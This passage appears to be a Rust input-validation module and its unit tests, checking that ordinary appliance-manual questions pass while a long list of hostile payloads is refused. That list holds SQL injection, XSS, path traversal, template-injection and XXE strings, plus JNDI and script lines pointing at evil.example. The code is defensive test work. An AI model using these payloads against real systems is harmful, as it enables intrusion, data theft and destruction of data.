fn file_name_has_path(cleaned: &str, views: &Views) -> bool {
    let only_dots = cleaned.chars().all(|c| c == '.' || c.is_whitespace());
    let drive = {
        let mut chars = cleaned.chars();
        matches!((chars.next(), chars.next()), (Some(letter), Some(':')) if letter.is_ascii_alphabetic())
    };
    has_separator(cleaned)
        || has_separator(&views.decoded)
        || has_encoded_path_char(views)
        || only_dots
        || drive
        || is_windows_device_name(cleaned)
}

/// `CON`, `NUL`, `COM1`… (with any extension) name devices on Windows.
fn is_windows_device_name(cleaned: &str) -> bool {
    let stem = cleaned
        .split('.')
        .next()
        .unwrap_or_default()
        .trim_end()
        .to_ascii_lowercase();
    match stem.as_str() {
        "con" | "prn" | "aux" | "nul" => true,
        _ => {
            let bytes = stem.as_bytes();
            bytes.len() == 4
                && (stem.starts_with("com") || stem.starts_with("lpt"))
                && bytes.get(3).is_some_and(|b| (b'1'..=b'9').contains(b))
        }
    }
}

fn identifier_has_path(cleaned: &str, views: &Views) -> bool {
    has_separator(cleaned)
        || has_separator(&views.decoded)
        || has_encoded_path_char(views)
        || cleaned.contains("..")
        || views.decoded.contains("..")
}

fn identifier_chars_ok(cleaned: &str) -> bool {
    let first_ok = cleaned
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
    first_ok
        && cleaned.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '@' | '+' | '=')
        })
}

/// `http(s)://` followed by a non-empty host (after any `user@`).
fn url_shape_ok(cleaned: &str) -> bool {
    let lower = cleaned.to_ascii_lowercase();
    let rest = if let Some(rest) = lower.strip_prefix("https://") {
        rest
    } else if let Some(rest) = lower.strip_prefix("http://") {
        rest
    } else {
        return false;
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host_port = authority.rsplit('@').next().unwrap_or_default();
    !host_port.is_empty() && !host_port.starts_with(':')
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    fn q(raw: &str) -> Result<String, Refusal> {
        check_text("question", FieldKind::Question, raw)
    }

    /// Real questions about manuals; none may be refused.
    const REAL_QUESTIONS: &[&str] = &[
        "How do I select the paper size?",
        "How do I select the paper tray from the menu?",
        "Which button do I press to delete from memory?",
        "Which menu lets me drop the print quality to draft?",
        "How do I delete a saved Wi-Fi network?",
        "Can I insert a USB stick while it's printing?",
        "How do I update the firmware?",
        "What does the <button> labelled Reset do?",
        "Is 1=1 the default ratio for the mixer?",
        "Where is ../settings in the web interface?",
        "What's the user's guide say about the 'Eco' mode?",
        "How do I execute a self-test?",
        "Does the script in the manual work on Windows?",
        "How many drops of oil per week?",
        "What does error code E-01; E-02 mean?",
        "Press OR hold the button -- which one?",
        "What does 'union' mean on the sewing machine?",
        "Can I use the 50% setting?",
        "How do I join two tables in the spreadsheet app?",
        "Why doesn't the printer's display turn on?",
        "The manual says go to http://192.168.1.1 — what's the default password?",
        "Wie reinige ich den Filter der Küche-Dunstabzugshaube?",
        "温度を設定するにはどうすればいいですか？",
        "Is 220-240 V OK for the kettle? 🔌",
        "What's the max temperature, 250 °C or 230 °C?",
        "Can I email support@example.com about the warranty?",
        "Press <OK> then <Menu> — is that right?",
        "What does the <Menu> key do?",
        "Press {OK} to confirm — which button is {OK}?",
        "Should I use 'Eco' or 'Quiet' mode at night?",
        "Is the child lock 'on' or 'off' by default?",
        "Which is better: \"Normal\" or \"Fine\" quality?",
        "How do I select * in the keypad menu?",
        "How do I drop table height on the standing desk?",
        "Can I drop the table leaf without tools?",
        "Where is the union select lever on the loom?",
        "Does Union select the fabric automatically?",
        "How do I update clock settings after a power cut?",
        "What's the difference between 'Delete' and 'Delete All'?",
        "What does 'Update Set' on the display mean?",
        "Press 'Clear'; delete from history as needed?",
        "Go to Setup; select Quiet from the list of modes.",
        "How do I set the time; select Clock from the Settings menu?",
        "My printer shows 'Drop Table' error on the display.",
        "The remote's 'OR' button — what does it do?",
        "Which sleep setting (5 or 10 min) saves more power?",
        "What does Sleep (5) on the display mean?",
        "How do I use CHAR(10) in a formula to add a line break?",
        "How do I use =\"Line1\" & CHAR(10) & \"Line2\" in a cell?",
        "What does error 0x80070005 mean during setup?",
        "Is error 0x1F serious?",
        "What does the '#' key do on the phone?",
        "What does '--' mean on the thermostat display?",
        "What does the '/*' symbol mean on the calculator?",
        "Is it O'Reilly's or O'Brien's manual that covers this?",
        "Where can I find the printer's serial number?",
        "The dishwasher shows E:24 — what should I do?",
        "My phone says \"SIM not provisioned MM#2\" — help?",
        "How do I reset the router to factory defaults?",
        "How long does the battery last at 50% brightness?",
        "Can I run the washer at 30°C with 1/2 load?",
        "Does the 1⁄2 cup line include the foam?",
        "How do I use the SELECT button on the TV remote?",
        "What does INSERT mode mean on the keyboard?",
        "How do I drop a pin in the GPS app?",
        "How do I delete from the favourites list?",
        "Can I exec a macro from the control panel?",
        "What is the script for resetting the camera?",
        "Where is the <Power> button on the side?",
        "Press <Start> > <Settings> > <Wi-Fi>, then what?",
        "Is 5 < 10 minutes enough for descaling?",
        "Should the temperature be > 60 °C and < 90 °C?",
        "What does C:\\Program Files\\Brother contain after installing the driver?",
        "Do I copy the driver to C:\\Windows\\System32\\spool\\drivers?",
        "Is ~/Documents the default scan folder on macOS?",
        "Where are the files under /var/log on the NAS?",
        "Does the NAS support /home folders for each user?",
        "Can I open file:///Users/me/manual.pdf in the browser?",
        "The web UI shows http://192.168.0.1/#/settings?tab=wifi — is that right?",
        "What is 100% duty cycle?",
        "Set the dial to 3 or 4; which is warmer?",
        "It says 'Press 1 and 2 together' — for how long?",
        "Press A + B = reset?",
        "How do I type the & symbol on the label maker?",
        "What does AT&T mean in the compatibility list?",
        "Is R&D mode the same as service mode?",
        "What does the ; key do on the label printer?",
        "Which oil: 5W-30 or 10W-40?",
        "Does it fit a 3/4\" hose?",
        "Can I use 12\" and 14\" pans on the hob?",
        "What does \"Err 3\" mean — is it the 'drum' or the 'pump'?",
        "Should I choose 'A' or 'B' for the filter?",
        "Is the 'Auto' mode = 'Smart' mode on the new model?",
        "Why does it beep 3 times -- and then stop?",
        "Can I update the map data; is it free?",
        "Is the delete key the same as backspace?",
        "What's the union of the two warranty terms?",
        "What happens if I select 'Reset all settings'?",
        "Where do I insert the SIM card?",
        "How do I drop the needle on the turntable?",
        "Which drop-down menu has the language option?",
        "How do I select from the available Wi-Fi networks?",
        "How do I select everything from the photo gallery?",
        "Can I update from version 2.1 to 3.0 directly?",
        "What does the script mode on the pen do?",
        "How do I execute the cleaning cycle?",
        "Where is the JavaScript: setting in the smart TV browser?",
        "Does the TV browser support JavaScript?",
        "What does the expression (a+b) mean in the calculator manual?",
        "What do the lights 🔴🟢 mean? 👍",
        "Wie viel Wasser für 6 Tassen? ☕",
        "¿Cómo cambio el idioma del menú?",
        "Comment régler l'heure sur le four ?",
        "Как включить режим экономии?",
        "Can I use it at 110 V / 60 Hz?",
        "What's the max load (kg) for the 'Cotton 60°' program?",
        "Is the model number KM-2000/B or KM-2000/C?",
        "Why does the app say \"can't connect\"?",
        "What's the printer's IP — 192.168.1.20?",
        "Does 'Onboard' storage mean internal memory?",
        "Is 'online' mode required for updates?",
        "What does the onboard <Reset> switch do?",
        "What if I select 2, 3 or 4 copies?",
        "How do I set copies (select 1 to 99)?",
        "What's the <Link> button for on the router?",
        "What does the <Style> button on the keyboard do?",
        "What does 'drop in' mean for the sink installation?",
        "Can the display show 'SELECT FROM LIST'?",
        "What does it mean when the screen says \"Insert into slot B\"?",
        "Where does the manual explain sleep(5) timers?",
        "Why is 'E-05' shown -- is it the filter?",
        "Is there a 'Clean' or 'Descale' program = same thing?",
        "Can I use 'or' and 'and' in the search box of the app?",
        "What does 'OR 1' mean on the dosing pump?",
        "How do I use the % key for 15% tips?",
        "Where is the 10%–20% slider?",
        "How do I get from menu A to menu B?\nAnd back?",
        "Tabs\tand\tnewlines\r\nare fine?",
        "Can I connect it to http://fritz.box?",
        "What is the default 'admin' password?",
        "My username is admin'; can I change it?",
        "What does 'select * to confirm' mean on the phone?",
        "How do I select \"Paper Type\" from the driver settings; it says 'Plain' or 'Glossy'?",
        "What does it mean if the display says 'Update failed' -- retry?",
        "I pressed 'Delete' and 'OK' = nothing happened. Why?",
        "Is \"Auto\" or \"Manual\"=better for night shots?",
        "The manual says: \"select * then # to confirm\" — where's the * key?",
        "How to drop the temperature from 180 to 160 °C?",
        "Can I delete from the SD card directly on the camera?",
        "Insert into the slot with the label facing up?",
        "Update: the printer still shows 'Offline'. What now?",
        "My kid typed '1=1' into the calculator, what does it show?",
        "What's the 'OR' gate symbol in the logic kit?",
        "Why does the alarm go off at 6:00; is it the 'Daily' setting?",
        "Can I use the \"--\" option in the CLI tool?",
        "What does 'Select All' do in the photo app?",
        "What is <Fn> + <F5> on the laptop?",
        "Where is the <Esc> key on the German keyboard?",
        "What does the `Enter` key do in the terminal app?",
        "Is ./configure needed for the firmware build?",
        "Can I run ./install.sh from the USB drive?",
        "What does 'sleep 5' do in the router's script?",
        "Is the mixer's bowl 5 L or 4.5 L?",
        "Does the 'Turbo' setting = 'Boost' setting?",
        "The app shows {device_name} instead of my name, why?",
        "What's the %USERPROFILE% folder for the scanner software?",
        "What does 100%/50%/25% mean on the zoom dial?",
        "Is \"A\" and \"B\" the same mode?",
        "How do I set the 'Start' time to '06:00'?",
        "The code 'E1' or 'E2' appears — what to do?",
        "I can't union the two shapes in the CAD program, why?",
        "How do I execute \"Reset All\" without losing my presets?",
        "Where does the script editor save files?",
        "How do I print from my iPhone (iOS 17)?",
        "Can I use AA or AAA batteries?",
        "Does the hood fit a 60 cm (24\") cabinet?",
        "Why does my TV say \"No Signal\"?",
        "What's the difference between HDMI-ARC & eARC?",
        "Is 3+2=5 mode the weekly schedule?",
        "My fridge shows \"rF\" — what does that mean?",
        "Why does the screen say \"Drop Table Top Before Use\"?",
        "How do I select the \"from\" address in the email app?",
        "How do I choose select from the dropdown on the website?",
        "What does the error 'SQL error near SELECT' mean on the POS terminal?",
        "The POS shows \"ERROR: syntax error at or near 'FROM'\" — help?",
        "How do I update the database on the POS?",
        "How do I delete from the database of recipes on the thermomix?",
        "Can I insert into the oven a glass dish?",
        "What is the 'Exec' button on the remote?",
        "Does the <Home> button also turn it off?",
        "What does \"<No Disc>\" mean?",
        "Why is the label \"<<< PUSH\" on the lid?",
        "What's the meaning of \">>\" on the tape deck?",
        "What do the arrows <- and -> on the panel mean?",
        "Is it safe to use at -20 °C?",
        "Press and hold [OK] + [Back] for 10 s?",
        "What does the 'on=' field in the config page mean?",
        "Does the onboard timer (onTimer=5) work without Wi-Fi?",
        "Can the 'onload' setting of the dishwasher be changed?",
        "What is the Expression pedal input for?",
        "What does the JS (JavaScript) toggle in the settings do?",
        "Where is the manual for /dev/ttyUSB0 setup?",
        "What is the default gateway /24 subnet?",
        "Which drill bit for 6/8 mm plugs?",
        "Is the path C:\\Users\\Public\\Documents the default for scans?",
        "What is 'or' in the Spanish version of the manual?",
        "Why does it say \"Select; Back; Home\" at the bottom?",
        "What happens if I select; then press back?",
        "Is the mode 'A' or 'B' at start up?",
        "Can I use the 'Eco' or 'Normal' option -- and which saves more?",
        "Should I press 'A' then 'B'?",
        "What does 1 OR 2 beep mean?",
        "Does \"x OR y\" search work in the app?",
        "Is it 5 or 6 -- the manual isn't clear.",
        "Warranty is 2 years; insert the card and select from the list.",
        "My name is O'Neil; why can't I register?",
        "I'm D'Angelo and the app rejects my name; why?",
        "The password field rejects 'pa$$word' — why?",
        "Can I name my device \"Kitchen's Speaker\"?",
        "Is \"Bob's\" or \"Alice's\" profile the admin?",
        "How do I write =IF(A1=\"yes\", 1, 0) in the spreadsheet?",
        "Why does =SUMIF(A:A,\"<>0\") return 0?",
        "How do I join cells with =A1&\" \"&B1?",
        "Does =COUNTIF(B2:B10,\">=50\") count empty cells?",
        "Is =QUERY(A1:C10, \"select A where B > 5\") supported in the sheets app?",
        "Why does =VLOOKUP(\"x\", A1:B5, 2, FALSE) give #N/A?",
        "=IF(OR(A1=\"x\", B1=\"y\"), 1, 0) doesn't work, why?",
        "What does digitalWrite(13, HIGH); do on the Arduino board?",
        "Is for (int i=0; i<10; i++) correct in the starter kit sketch?",
        "What does #include <Wire.h> do in the example?",
        "How do I use Serial.println(\"hi\"); with the sensor?",
        "Do I need ls -la /etc on the router shell?",
        "What does the <br> in the label template do?",
        "How do I make text <b>bold</b> in the notes app?",
        "What does onClick mean in the app builder?",
        "Why does if (x == 1 || y == 2) never trigger in the robot's code?",
        "What does \"x = 'a' or 'b'\" mean in the robot's block code?",
        "The Python example has print('Hello') -- what's wrong?",
        "The TV says \"Select Source from Input Menu\".",
        "How do I set volume=10 on the speaker's API?",
        "What's http://192.168.1.1/cgi-bin/luci;stok=/admin?",
        "Is the URL https://example.com/manual?id=5&lang=en right?",
        "What does \"POST /api/v1/update\" do in the hub docs?",
        "Why does the hub log say 'GET /status 200'?",
        "Can I use regex like ^[0-9]+$ in the filter?",
        "What does the ~ symbol mean on the dryer?",
        "What does '*' then '#' do on the intercom?",
        "How do I dial *#06# on the phone?",
        "Why does the screen say \"--:--\" after a power cut?",
        "What does \"-- --\" on the clock mean?",
        "Why is \"1 -- 2\" shown on the thermostat?",
        "Press 'Menu' -- then 'Back'?",
        "Can I enter \"O'Hara\" as a contact name?",
        "My street is \"Rue de l'Église\" — is that OK?",
        "The log shows '; ' separators, is that fine?",
        "What does the 'Sleep' and 'Wake' = schedule icon mean?",
        "What if 'A' and 'B' = both on?",
        "Should the 'Mode' and 'Level' = 3 for espresso?",
        "How do I use <Ctrl>+<Alt>+<Del> on the kiosk?",
        "Where's the <Print Screen> key?",
        "What does \"Press <OK> to select <Yes>\" mean?",
        "Does the scale read in g/oz or lb:oz?",
        "Is 1/2\" or 3/8\" socket needed?",
        "What is 'N/A' in the spec sheet?",
        "Is the 'A/B' switch for antenna?",
        "How do I turn off \"Auto-update\" and \"Auto-delete\"?",
        "Set 'Update' to 'Manual'; select 'Save'.",
        "What does 'Delete from SIM' vs 'Delete from phone' mean?",
        "Which button: \"Select\" or \"Enter\"?",
        "The screen shows \"Insert Disk\" -- which slot?",
        "How do I use the drop-in filter (type 'DF-1')?",
        "Can the 'Union' stitch and 'Select' stitch be combined?",
        "Is exec mode the same as admin mode on the switch?",
        "What does 'exec-timeout 5 0' mean on the switch CLI?",
        "What is \"show running-config | include vlan\" on the switch?",
        "How do I configure 'ip route 0.0.0.0 0.0.0.0 192.168.1.1'?",
        "What's the meaning of \"&&\" in the automation rules?",
        "Can I use \"||\" for OR in the app's search?",
        "What is 5' 10\" in cm for the height setting?",
        "Is the cable 6' or 10' long?",
        "Is the TV 55\" or 65\"?",
        "What does \"3' x 2'\" mean for the rug size?",
        "How do I use the \"=\" key and \"%\" key on the calculator?",
        "What's 15% of 200 on this calculator: 200 x 15 % = ?",
        "Why does the screen say \"Error: expression too complex\"?",
        "Is <svg> export supported?",
        "Can I use <img> tags in the product description?",
        "How do I select and delete all from the playlist?",
        "Can I update and delete entries from the address book?",
        "My router admin page has 'admin'/'password' as default?",
    ];

    /// Hostile payloads; every one must be refused as a Question.
    const HOSTILE: &[&str] = &[
        // SQL injection
        "' OR '1'='1",
        "' OR '1'='1' --",
        "\" or \"\"=\"",
        "' or ''='",
        "' OR 1=1 --",
        "' or 1=1#",
        "admin' or '1'='1'--",
        "') or ('1'='1",
        "admin\") or (\"1\"=\"1",
        "' or 'x'='x",
        "' or true--",
        "1' or 1=1/*",
        "1; DROP TABLE users",
        "1; DROP TABLE users; --",
        "'; DROP TABLE users; --",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "UNION SELECT username, password FROM users",
        "' UNION SELECT NULL,NULL,NULL-- -",
        "1 UNION ALL SELECT 1,2,3--",
        "' union select table_name from information_schema.tables--",
        "/**/UNION/**/SELECT/**/password/**/FROM/**/users",
        "1/*!50000UNION*//*!50000SELECT*/1,2",
        "'; EXEC xp_cmdshell('dir')--",
        "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
        "' AND SLEEP(5)",
        "1 and sleep(5)#",
        "'; WAITFOR DELAY '0:0:5'--",
        "1' AND benchmark(1000000,md5(1))--",
        "admin'--",
        "admin' #",
        "admin'/*",
        "' ;--",
        "; DELETE FROM x",
        "'; DELETE FROM users WHERE 1=1 --",
        "SELECT * FROM users WHERE id = 1",
        "SELECT CHAR(0x41)+CHAR(0x42)",
        "CHAR(65)+CHAR(66)+CHAR(67)",
        "information_schema",
        "'||pg_sleep(10)--",
        "1) or pg_sleep(5)--",
        "1' ORDER BY 3--+",
        "' HAVING 1=1--",
        "' AND 1=CONVERT(int,@@version)--",
        "' AND extractvalue(1,concat(0x7e,version()))--",
        "'; INSERT INTO users VALUES ('x','y')--",
        "'; UPDATE users SET password='x' WHERE user='admin'--",
        "' OR EXISTS(SELECT 1 FROM users)--",
        "'; SHUTDOWN --",
        "%27%20OR%20%271%27%3D%271",
        "&#39; OR &#39;1&#39;=&#39;1",
        "'+or+1=1--+",
        "1 AND 1=1",
        "'; DECLARE @q varchar(99); SET @q='x'; exec(@q);--",
        "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
        "' || (SELECT password FROM users) || '",
        "＇ OR ＇1＇=＇1",
        // More payloads (SQLi, XSS, traversal, SSTI, encoded).
        "' or 1=1 limit 1 --",
        "1' and '1'='1",
        "1 or 1=1",
        "' or 1 --",
        "') or 1=1--",
        "\" or 1=1--",
        "' or ''-'",
        "' or username like '%",
        "1' and 1=2 union select 1,2--",
        "-1 union select 1,2,3",
        "1 union select null--",
        "' UNION SELECT @@version--",
        "' AND 1=1#",
        "'; select pg_sleep(5)--",
        "1;select+sleep(5)",
        "'/**/or/**/1=1--",
        "' oR '1'='1",
        "admin' or 1=1#",
        "' or 1 in (select 1)--",
        "';shutdown--",
        "'; drop database prod;--",
        "'; truncate table logs;--",
        "1'; exec sp_configure 'show advanced options',1--",
        "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
        "' AND 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--",
        "%27%3B%20DROP%20TABLE%20users%3B--",
        "1%20UNION%20SELECT%20password%20FROM%20users",
        "&#x27; OR 1=1 --",
        "' or sleep(5)='",
        "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
        "if(1=1,sleep(5),0)",
        "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
        "' and 0x41=0x41--",
        "DROP TABLE users;",
        "DELETE FROM users;",
        "INSERT INTO users (name) VALUES ('x')",
        "UPDATE users SET admin=1",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<video><source onerror=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<form action=javascript:alert(1)><button>X</button></form>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">",
        "<a href=javascript&colon;alert(1)>x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img \"\"\"><script>alert(\"XSS\")</script>\">",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "'-alert(1)-'",
        "\\';alert(1);//",
        "</title><script>alert(1)</script>",
        "<svg><script>alert&#40;1&#41;</script>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<x/onpointerenter=alert(1)>hover",
        "%3Csvg%2Fonload%3Dalert(1)%3E",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "<scr\\u0069pt>alert(1)</script>",
        "&#0000060script&#0000062",
        "&lt;img src=x onerror=alert(1)&gt;",
        "..%5c..%5cwindows%5cwin.ini",
        "..%255c..%255cboot.ini",
        "/..\\..\\..\\..\\etc\\passwd",
        "....\\\\....\\\\windows\\\\win.ini",
        "../../../../../../proc/self/cmdline",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "..%u2216..%u2216windows",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{constructor.constructor('alert(1)')()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<%= system(\"id\") %>",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
        "${{7*7}}",
        "#{T(java.lang.System).getenv()}",
        "{{7*'7'}}",
        "&#123;&#123;7*7&#125;&#125;",
        "${${::-j}ndi:ldap://x/a}",
        // Script / HTML injection
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert('XSS')>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "javascript:alert(document.cookie)",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3C;script&#x3E;alert(1)",
        "\\u003cscript\\u003ealert(1)",
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
        "<embed src=\"x.swf\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">",
        "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\">",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<div style=\"width: expression(alert(1))\">",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<x onclick=alert(1)>click me",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "＜script＞alert(1)＜/script＞",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "';alert(String.fromCharCode(88,83,83))//",
        "\" onmouseover=\"alert(1)",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
        "<base href=\"http://evil.example/\">",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        // Path traversal
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2fapp.conf",
        "%252e%252e%252fsecret",
        "..%c0%af..%c0%afetc",
        "/etc/passwd",
        "/proc/self/environ",
        "C:\\Windows\\win.ini",
        "c:\\boot.ini",
        "file:///etc/shadow",
        "What is in ../../../../etc/hosts?",
        // Template injection
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% import os %}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "${jndi:ldap://evil.example/a}",
        "%7B%7B7*7%7D%7D",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "#set($x=1)",
        "{$smarty.version}",
        "Hello {{ user.password }} there",
    ];

    #[test]
    fn real_questions_pass() {
        assert!(REAL_QUESTIONS.len() >= 120, "{}", REAL_QUESTIONS.len());
        let refused: Vec<_> = REAL_QUESTIONS
            .iter()
            .filter_map(|text| q(text).err().map(|r| format!("{text:?} -> {}", r.reason)))
            .collect();
        assert!(
            refused.is_empty(),
            "refused real questions:\n{}",
            refused.join("\n")
        );
    }

    #[test]
    fn hostile_payloads_refused() {
        assert!(HOSTILE.len() >= 80, "{}", HOSTILE.len());
        let passed: Vec<_> = HOSTILE.iter().filter(|text| q(text).is_ok()).collect();
        assert!(passed.is_empty(), "accepted hostile payloads:\n{passed:#?}");
    }

    fn kind_ok(kind: FieldKind, raw: &str) -> bool {
        check_text("f", kind, raw).is_ok()
    }

    #[test]
    fn file_names() {
        for ok in [
            "manual.pdf",
            "Bedienungsanleitung Küche.pdf",
            "説明書 (v2).pdf",
            "O'Brien's mixer manual.PDF",
            "manual..final.pdf",
            "50% off flyer.pdf",
            "Report 2024-05-01 #3.pdf",
            "  trimmed.pdf  ",
            "~draft.pdf",
            "console.pdf",
            "COM10 notes.pdf",
        ] {
            assert!(kind_ok(FieldKind::FileName, ok), "{ok:?}");
        }
        for bad in [
            "../../etc/passwd",
            "..\\..\\win.ini",
            "a/b",
            "a\\b",
            "%2e%2e%2f",
            "%2E%2E%2Fx.pdf",
            "con/../x",
            "..",
            ".",
            "...",
            "/etc/passwd",
            "C:\\x.pdf",
            "C:x.pdf",
            "~/x.pdf",
            "x%2fy.pdf",
            "x%5cy.pdf",
            "x%00.pdf.exe",
            "x%252f.pdf",
            "a／b.pdf",
            "a∕b.pdf",
            "<script>alert(1)</script>.pdf",
            "<img src=x onerror=alert(1)>.pdf",
            "{{7*7}}.pdf",
            "x' OR '1'='1.pdf",
            "CON",
            "nul.txt",
            "Lpt1.pdf",
            "aux .pdf",
        ] {
            assert!(!kind_ok(FieldKind::FileName, bad), "{bad:?}");
        }
        assert_eq!(
            check_text("file", FieldKind::FileName, " a\u{0}b.pdf\n").unwrap(),
            "ab.pdf"
        );
    }

    #[test]
    fn identifiers() {
        for ok in [
            "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
            "manual_123",
            "user@example.com",
            "arn:aws:s3:::bucket",
            "v1.2.3",
            "a+b=",
            "_tmp",
        ] {
            assert!(kind_ok(FieldKind::Identifier, ok), "{ok:?}");
        }
        for bad in [
            "../../etc/passwd",
            "..\\..\\win.ini",
            "a/b",
            "a..b",
            "%2e%2e%2f",
            "con/../x",
            "~root",
            "a b",
            "a'--",
            "-rf",
            ".hidden",
            "x<y",
            "Küche",
            "{{x}}",
        ] {
            assert!(!kind_ok(FieldKind::Identifier, bad), "{bad:?}");
        }
    }

    #[test]
    fn urls() {
        for ok in [
            "https://example.com",
            "http://192.168.1.1/",
            "HTTPS://Example.com/manuals/x.pdf?page=2#top",
            "https://user@example.com:8443/a-b_c~d/%20e",
            "  https://example.com/trimmed  ",
        ] {
            assert!(kind_ok(FieldKind::Url, ok), "{ok:?}");
        }
        for bad in [
            "example.com",
            "ftp://example.com/x",
            "javascript:alert(1)",
            "file:///etc/passwd",
            "https://",
            "https:///path",
            "https://@/x",
            "https://:80/x",
            "http://exa mple.com",
            "https://example.com/<script>",
            "https://example.com/a\\b",
            "https://example.com/\"x\"",
            "https://example.com/../../etc/passwd",
            "https://example.com/?q=%27%20OR%20%271%27%3D%271",
            "https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "https://example.com/{{7*7}}",
            "data:text/html,<script>alert(1)</script>",
        ] {
            assert!(!kind_ok(FieldKind::Url, bad), "{bad:?}");
        }
        // Control characters (e.g. a header-splitting CRLF) are removed.
        assert_eq!(
            check_text("url", FieldKind::Url, "https://example.com/\r\nx").unwrap(),
            "https://example.com/x"
        );
    }

    #[test]
    fn length_limits_in_chars() {
        for (kind, max, unit) in [
            (FieldKind::Question, 1000, "é"),
            (FieldKind::FileName, 255, "ü"),
            (FieldKind::Identifier, 200, "a"),
        ] {
            assert_eq!(kind.max_chars(), max);
            assert!(
                check_text("f", kind, &unit.repeat(max)).is_ok(),
                "{kind:?} at limit"
            );
            let err = check_text("f", kind, &unit.repeat(max + 1)).unwrap_err();
            assert!(
                err.reason.contains(&max.to_string()),
                "{kind:?}: {}",
                err.reason
            );
        }
        let url_at = format!("https://example.com/{}", "a".repeat(2048 - 20));
        assert_eq!(url_at.chars().count(), 2048);
        assert!(kind_ok(FieldKind::Url, &url_at));
        assert!(!kind_ok(FieldKind::Url, &format!("{url_at}a")));
        // Whitespace runs collapse before the length check.
        let spaced = format!("a{}b", " ".repeat(5000));
        assert_eq!(q(&spaced).unwrap(), "a b");
        // Absurdly large input is refused before any work.
        assert!(q(&"a".repeat(1_000_000)).is_err());
    }

    #[test]
    fn cleaning() {
        assert_eq!(q("a\u{0}b").unwrap(), "ab");
        assert_eq!(q("line\r\nbreak").unwrap(), "line break");
        assert_eq!(q("line\rbreak").unwrap(), "line break");
        assert_eq!(
            q("  tabs\t\tand\n\nnewlines  ").unwrap(),
            "tabs and newlines"
        );
        assert_eq!(q("nbsp\u{00A0}\u{2003}\u{3000}runs").unwrap(), "nbsp runs");
        assert_eq!(q("bell\u{7}\u{1b}[31m red").unwrap(), "bell[31m red");
        assert_eq!(
            q("zero\u{200B}width \u{202E}bidi\u{FEFF}").unwrap(),
            "zerowidth bidi"
        );
        assert_eq!(q("next\u{0085}line").unwrap(), "next line");
        // Log injection: a forged second log line is flattened.
        assert_eq!(
            q("ok\n2024-01-01 INFO admin logged in").unwrap(),
